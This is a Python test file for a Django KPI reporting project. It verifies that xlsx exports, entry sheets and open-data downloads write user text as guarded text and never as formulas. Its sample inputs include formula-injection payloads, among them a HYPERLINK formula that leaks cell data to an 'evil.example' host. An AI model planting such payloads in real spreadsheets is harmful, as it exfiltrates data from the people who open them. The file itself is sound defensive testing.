"""Every xlsx the project writes for people keeps text as text: the reporter's entry sheet, the workbook export and
the open-data downloads write text through govkpi.ops.spreadsheets.cell — a text cell, never a formula, with the
quote prefix where a spreadsheet would run it, by the same rule as the CSV guard. Numbers (negative ones too) stay
numbers, and the text itself is unchanged (the export → load round trip is tested in tests/workbook)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from govkpi.opendata.datasets import DATASETS
from govkpi.ops import csvsafe, spreadsheets
from tests.results.builders import PASSWORD, build_world
from tests.results.helpers import draft

from .conftest import FORMULA, HOSTILE

SAMPLES = ["=1+1", "+1", "-1", "-5", "+3.5", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1+1", "－x", "ok", "", "1-2",
           "-", "=", " =1", "#N/A", '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "-2e5", "--1"]
_FORMULA_XML = re.compile(rb"<(?:\w+:)?f[ >/]")


def written(values: list[object]) -> list[tuple[object, str, bool]]:
    """(value, type, quote prefix) of each value written through spreadsheets.row and read back by openpyxl."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(spreadsheets.row(sheet, values))
    buffer = io.BytesIO()
    book.save(buffer)
    assert not _FORMULA_XML.search(zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml"))
    cells = next(load_workbook(io.BytesIO(buffer.getvalue()))["s"].iter_rows())
    return [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells]


def test_one_rule_for_csv_and_xlsx():
    samples = [sample for sample in SAMPLES if sample]
    for sample, (value, kind, prefixed) in zip(samples, written(samples), strict=True):
        assert (value, kind) == (sample, "s"), sample  # text, unchanged, never a formula
        assert prefixed == (csvsafe.safe_cell(sample) != sample) == csvsafe.is_formula(sample), sample


def test_numbers_dates_and_empty_cells_are_written_as_they_are():
    from datetime import date

    assert written([-5, -1.25, 0, date(2022, 9, 20), None, "x"])[:3] == [(-5, "n", False), (-1.25, "n", False),
                                                                       (0, "n", False)]
    assert spreadsheets.cell(None, -5) == -5 and spreadsheets.cell(None, None) is None


def _sheet_xml(data: bytes) -> list[bytes]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]


def _text_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def _assert_formula_safe(data: bytes) -> list:
    assert not any(_FORMULA_XML.search(xml) for xml in _sheet_xml(data)), "a formula element was written"
    cells = _text_cells(data)
    assert [cell.coordinate for cell in cells if cell.data_type != "s"] == []
    unguarded = [cell.value for cell in cells if csvsafe.is_formula(cell.value) and not cell.quotePrefix]
    assert unguarded == []
    return cells


@pytest.mark.django_db
def test_the_entry_sheet_writes_a_note_that_begins_with_equals_as_text(client):
    world = build_world()
    draft(world, note=FORMULA, value=70.0)
    client.login(username="rep5401", password=PASSWORD)
    response = client.get(reverse("results:sheet", args=["5401", "2565-Q1"]))
    assert response.status_code == 200
    cells = _assert_formula_safe(response.content)
    note = next(cell for cell in cells if cell.value == FORMULA)
    assert note.quotePrefix
    book = load_workbook(io.BytesIO(response.content))
    assert 70 in [cell.value for row in book["results"].iter_rows() for cell in row]  # a number, not text


@pytest.mark.django_db
def test_the_workbook_export_writes_hostile_text_as_guarded_text(hostile, tmp_path):
    call_command("export", str(tmp_path / "out.xlsx"), stdout=io.StringIO())
    cells = _assert_formula_safe((tmp_path / "out.xlsx").read_bytes())
    assert any(cell.value == HOSTILE["indicator"] and cell.quotePrefix for cell in cells)
    assert any(cell.value == HOSTILE["award"] and cell.quotePrefix for cell in cells)


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(DATASETS))
def test_open_data_xlsx_writes_hostile_text_as_guarded_text(client, hostile, name):
    response = client.get(f"/open-data/{name}.xlsx")
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    _assert_formula_safe(body)


def test_every_xlsx_writer_uses_the_one_helper():
    """A module that builds an openpyxl Workbook writes its cells through govkpi.ops.spreadsheets."""
    root = Path(__file__).resolve().parents[2] / "govkpi"
    writers = {str(path.relative_to(root)): path.read_text(encoding="utf-8") for path in root.rglob("*.py")
               if "Workbook(" in path.read_text(encoding="utf-8")}
    assert writers, "the project writes spreadsheets"
    assert [name for name, source in writers.items() if "spreadsheets." not in source] == []
